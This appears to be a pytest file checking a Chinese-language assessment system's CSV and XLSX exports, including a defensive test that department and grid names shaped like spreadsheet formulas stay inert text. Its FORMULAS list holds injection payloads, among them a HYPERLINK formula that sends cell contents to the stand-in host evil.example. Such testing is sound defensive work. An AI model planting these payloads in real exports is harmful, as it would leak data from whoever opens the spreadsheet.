"""CSV and XLSX exports: Chinese headers, the same figures as the stored run, flagged units on their own sheet."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from engine.assessments import AssessmentService
from engine.assessments.export import HEADERS
from engine.clock import FixedClock
from engine.db import Database
from engine.people.directory import rename_department
from engine.people.models import Grid
from tests.fixtures.assessments import Dataset, cst


def _two_bad_quarters(db: Database) -> AssessmentService:
    ds = Dataset()
    for start in (cst(2026, 4, 6, 9), cst(2026, 7, 6, 9)):
        for k in range(4):
            case = ds.case(start + timedelta(days=k), grid="HP-01", department="wuye")
            ds.item(case, "triage", created=case.opened_at, finished=case.opened_at + timedelta(hours=2))
            ds.close(case, case.opened_at + timedelta(days=2), "resolved" if k else "rejected")
            ds.rate(case, "satisfied", case.closed_at, default=k == 3)
    ds.write(db)
    return AssessmentService(db, FixedClock(cst(2026, 10, 20)))


def test_csv_has_chinese_headers_and_every_figure(db: Database) -> None:
    service = _two_bad_quarters(db)
    run_id = service.assess("quarterly", "2026Q3", triggered_by="test")
    data = service.csv(run_id)
    assert data.startswith("\ufeff".encode())  # Excel opens UTF-8 only with a BOM
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == HEADERS and rows[0][0] == "评估类型"
    assert len(rows) - 1 == len(service.report(run_id).results)
    wuye = {r[5]: r for r in rows[1:] if r[3] == "wuye"}
    assert wuye["解决率"][6:11] == ["75.0%", "3", "4", "≥ 90.0%", "未达标"]
    assert wuye["解决率"][13:15] == ["2", "是"]
    flagged_units = {r[3] for r in rows[1:] if r[14] == "是"}
    assert rows[1][3] in flagged_units  # flagged units first


def test_xlsx_holds_numbers_with_formats_and_a_sheet_of_flagged_units(db: Database) -> None:
    service = _two_bad_quarters(db)
    run_id = service.assess("quarterly", "2026Q3", triggered_by="test")
    book = load_workbook(io.BytesIO(service.xlsx(run_id)))
    assert book.sheetnames == ["评估结果", "连续未达标警示"]
    sheet = book["评估结果"]
    assert tuple(c.value for c in sheet[1]) == HEADERS
    rows = {(r[3].value, r[5].value): r for r in sheet.iter_rows(min_row=2)}
    resolution = rows[("wuye", "解决率")]
    assert resolution[6].value == 0.75 and resolution[6].number_format == "0.0%"
    assert rows[("minzheng", "解决率")][6].value == "n/a"
    flagged = [r[3].value for r in book["连续未达标警示"].iter_rows(min_row=2)]
    assert "wuye" in flagged and all(r[14].value == "是" for r in book["连续未达标警示"].iter_rows(min_row=2))


#: Names an admin (or a stolen admin session) can give a department or grid: each would be a live formula
#: in the spreadsheet a supervisor opens (=HYPERLINK sends data away, =cmd|… ran programs in old Excel).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
            "＝1+1"]


@pytest.mark.parametrize("name", FORMULAS)
def test_names_that_look_like_formulas_stay_text_in_csv_and_xlsx(db: Database, name: str) -> None:
    service = _two_bad_quarters(db)
    with db.transaction() as s:
        rename_department(s, "wuye", name, by="admin")
        s.execute(update(Grid).where(Grid.code == "HP-01").values(name=name, community=name))
    run_id = service.assess("quarterly", "2026Q3", triggered_by="test")
    rows = list(csv.reader(io.StringIO(service.csv(run_id).decode("utf-8-sig"))))
    assert {r[3]: r[4] for r in rows[1:]}["wuye"] == "'" + name.strip()  # a spreadsheet shows it as text
    assert not any(cell[:1] and cell[:1] in "=+-@\t\r＝" for row in rows for cell in row)  # the community's row too
    book = load_workbook(io.BytesIO(service.xlsx(run_id)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    cells = {r[3].value: r[4] for r in book["评估结果"].iter_rows(min_row=2)}
    assert cells["wuye"].value == name.strip() and cells["wuye"].quotePrefix


def test_ordinary_numbers_and_names_are_left_alone(db: Database) -> None:
    service = _two_bad_quarters(db)
    run_id = service.assess("quarterly", "2026Q3", triggered_by="test")
    rows = list(csv.reader(io.StringIO(service.csv(run_id).decode("utf-8-sig"))))
    assert not any(cell.startswith("'") for row in rows for cell in row)
